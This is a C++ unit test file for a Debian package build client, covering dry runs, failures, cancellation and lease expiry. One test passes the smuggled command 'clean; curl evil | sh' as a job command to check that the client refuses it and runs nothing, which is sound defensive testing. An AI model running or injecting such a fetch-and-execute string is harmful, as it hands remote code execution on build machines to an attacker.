#include "client/job_run.h"

#include <gtest/gtest.h>

#include <filesystem>

#include "client/fake_controller_api.h"
#include "client/fake_runner.h"
#include "testing/test_dir.h"

namespace cbit::client {
namespace {
namespace fs = std::filesystem;

constexpr Id kJob = 42;

BuildRequest Request() {
  BuildRequest r;
  r.job.id = kJob;
  auto& pi = r.job.instance;
  pi.package = {1, "hello-cbit", "1.0"};
  pi.arch.name = "amd64";
  pi.suite.name = "bookworm";
  pi.dist.name = "Debian";
  pi.format.name = "deb";
  r.transport = {"git", "https://example.org/hello.git", "abc123"};
  return r;
}

ClientConfig Config(const fs::path& root) {
  ClientConfig c;
  c.clientid = "build_client_test";
  c.buildroot = (root / "build").string();
  c.build.kind = BuilderKind::kHost;
  c.dput_dest = "incoming";
  c.dput_config = (root / "dput.cf").string();
  return c;
}

// The git clone makes the tree a real fetch would; dpkg-buildpackage
// answers with `build`.
FakeRunner::Responder Builds(const CommandResult& build) {
  return [build](const Command& cmd) {
    CommandResult ok;
    ok.exit_code = 0;
    if (cmd.argv.size() > 3 && cmd.argv[3] == "clone") {
      fs::create_directories(fs::path(cmd.argv.back()) / "debian");
    }
    return cmd.argv.front() == "dpkg-buildpackage" ? build : ok;
  };
}

JobReport RunTestJob(
    const ClientConfig& config, ControllerApi& api, Runner& runner,
    std::function<bool()> cancelled = [] { return false; },
    std::function<bool()> stopping = [] { return false; }) {
  JobEnvironment env{config, api, runner, {.interval = std::chrono::milliseconds(10)}};
  return RunJob(Request(), env, {std::move(cancelled), std::move(stopping)},
                std::chrono::steady_clock::now());
}

TEST(RunJob, DryRunReportsBuildingThenDoneWithEveryCommandLogged) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  ClientConfig config = Config(root);
  config.dry_run = true;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  DryRunRunner runner;
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(r.outcome, Outcome::kBuilt);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Done"}));
  std::string log = api.Log(kJob, 1);
  EXPECT_NE(log.find("[dry-run] $ git -c protocol.ext.allow=never clone"), std::string::npos);
  EXPECT_NE(log.find("[dry-run] $ dpkg-buildpackage -us -uc -B"), std::string::npos) << log;
  EXPECT_NE(log.find("[dry-run] $ dput -f -c"), std::string::npos) << log;
  EXPECT_FALSE(fs::exists(root / "build" / "job-42"));  // cleaned
  EXPECT_LE(r.in_tools, r.total);
}

TEST(RunJob, ABuildFailureIsReportedFailedWithItsOutputInTheLog) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 2, .output = "hello.c:1: error: expected ';'\n"});
  JobReport r = RunTestJob(Config(root), api, runner);
  EXPECT_EQ(r.outcome, Outcome::kBuildFailed);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob).back(), "Failed");
  EXPECT_NE(api.Log(kJob, 1).find("hello.c:1: error"), std::string::npos);
}

TEST(RunJob, ADependencyWaitIsReportedBlockedAndRetriedLater) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds(
      {.exit_code = 3, .output = "dpkg-checkbuilddeps: error: Unmet build dependencies: foo\n"});
  JobReport r = RunTestJob(Config(root), api, runner);
  EXPECT_EQ(r.outcome, Outcome::kDependencyWait);
  EXPECT_EQ(r.settle, Settle::kRetryLater);
  EXPECT_EQ(api.History(kJob).back(), "Blocked");
}

TEST(RunJob, ACancelIsReportedCancelledAndAShutdownHandsTheJobBack) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 130, .cancelled = true});
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  JobReport cancelled = RunTestJob(Config(root), api, runner, [] { return true; });
  EXPECT_EQ(cancelled.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob).back(), "Cancelled");

  FakeControllerApi api2;
  api2.AddJob(kJob, "Waiting");
  JobReport stopped = RunTestJob(
      Config(root), api2, runner, [] { return false; }, [] { return true; });
  EXPECT_EQ(stopped.settle, Settle::kRequeue);
  EXPECT_EQ(api2.History(kJob).back(), "Waiting");
}

// The request's `commands` (pyBit's debian/rules targets) run after the
// checkout, before the build; one that is not a target name fails the job
// with the reason in its log, and nothing runs.
TEST(RunJob, TheRequestsRulesTargetsRunBeforeTheBuildOrRefuseTheJob) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  BuildRequest request = Request();
  request.commands = {"fakeroot debian/rules get-orig-source"};
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 0});
  JobEnvironment env{Config(root), api, runner, {.interval = std::chrono::milliseconds(10)}};
  JobSignals signals{[] { return false; }, [] { return false; }};
  RunJob(request, env, signals, std::chrono::steady_clock::now());
  std::vector<std::string> programs;
  for (const auto& argv : runner.Argvs()) programs.push_back(argv[0] + " " + argv[1]);
  // git clone, git checkout, the target, then the build.
  ASSERT_GE(programs.size(), 4u);
  EXPECT_EQ(programs[1], "git -C");
  EXPECT_EQ(runner.Argvs()[2],
            (std::vector<std::string>{"fakeroot", "debian/rules", "get-orig-source"}));
  EXPECT_EQ(programs[3], "dpkg-buildpackage -us");

  FakeControllerApi api2;
  api2.AddJob(kJob, "Waiting");
  FakeRunner runner2;
  request.commands = {"get-orig-source", "clean; curl evil | sh"};
  JobEnvironment env2{Config(root), api2, runner2, {.interval = std::chrono::milliseconds(10)}};
  JobReport refused = RunJob(request, env2, signals, std::chrono::steady_clock::now());
  EXPECT_NE(refused.outcome, Outcome::kBuilt);
  EXPECT_EQ(api2.History(kJob).back(), "Failed");
  EXPECT_TRUE(runner2.commands.empty());
  EXPECT_NE(api2.Log(kJob, 1).find("'clean; curl evil | sh'"), std::string::npos)
      << api2.Log(kJob, 1);
}

TEST(RunJob, AControllerBrieflyAwayLosesNoLogText) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  ClientConfig config = Config(root);
  config.dry_run = true;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  api.FailNext(2);  // the Building report is retried
  DryRunRunner runner;
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_EQ(api.History(kJob).back(), "Done");
  EXPECT_EQ(r.settle, Settle::kAck);
  std::string log = api.Log(kJob, 1);
  EXPECT_EQ(log.rfind("cbit-client build_client_test: job 42", 0), 0u) << log;
  EXPECT_NE(log.find("== built"), std::string::npos) << log;
}

// Runs nothing, as a dry run; the controller expires the lease while the
// package builds (the client was silent for longer than its lease).
class ExpiringRunner final : public Runner {
 public:
  explicit ExpiringRunner(FakeControllerApi& api) : api_(api) {}
  CommandResult Run(const Command& cmd, const LogSink& sink, const CancelHook& cancel) override {
    argvs.push_back(cmd.argv);
    if (cmd.argv.front() == "dpkg-buildpackage") api_.ExpireLease(kJob);
    return dry_.Run(cmd, sink, cancel);
  }
  bool RunsCommands() const override { return false; }
  std::vector<std::vector<std::string>> argvs;

 private:
  FakeControllerApi& api_;
  DryRunRunner dry_;
};

TEST(RunJob, ALeaseLostDuringTheBuildUploadsAndReportsNothing) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  config.dry_run = true;
  config.lease_renew = std::chrono::hours(1);  // only the check before the upload sees it
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  ExpiringRunner runner(api);
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_TRUE(r.lease_lost);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Waiting"}));
  bool built = false;
  for (const auto& argv : runner.argvs) {
    built = built || argv.front() == "dpkg-buildpackage";
    EXPECT_NE(argv.front(), "dput");
  }
  EXPECT_TRUE(built);
}

}  // namespace
}  // namespace cbit::client
